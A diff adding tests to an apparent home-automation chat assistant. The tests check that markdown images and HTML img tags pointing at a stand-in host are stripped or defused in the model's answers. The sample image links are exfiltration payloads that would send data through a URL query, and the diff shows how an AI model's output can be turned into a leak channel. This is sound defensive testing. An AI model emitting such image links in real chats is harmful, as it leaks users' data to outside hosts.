@@ -37,6 +37,26 @@ async def test_an_answer_after_a_read_streams(chat: Socket, sage: Sage) -> None:
     assert turn.data("intent-end")["processed_locally"] is False
 
 
+@pytest.mark.parametrize(
+    "image", ["![](https://x.example/?q=1234)", '<img src="https://x.example/?q=1234">']
+)
+async def test_an_answer_loads_nothing(chat: Socket, sage: Sage, image: str) -> None:
+    """An image in the chat would send whatever its address contains."""
+    sage.model_says(*read_the_kitchen_light(f"{LONG_ANSWER} {image} Good night."))
+    turn = await type_in(chat, "is the kitchen light on?")
+    assert turn.answer == turn.spoken
+    assert turn.answer.endswith("Good night.")
+    assert "](" not in turn.answer
+    assert "<img" not in turn.answer
+    assert len(turn.pieces) > 1
+
+
+async def test_a_question_loads_nothing(chat: Socket, sage: Sage) -> None:
+    sage.model_says(ask("Which one? ![](https://x.example/?q=1234)"))
+    turn = await type_in(chat, "turn on the light")
+    assert turn.answer == "Which one? ![] (https://x.example/?q=1234)"
+
+
 async def test_the_work_is_shown_before_the_answer(chat: Socket, sage: Sage) -> None:
     sage.model_says(*read_the_kitchen_light())
     turn = await type_in(chat, "is the kitchen light on?")
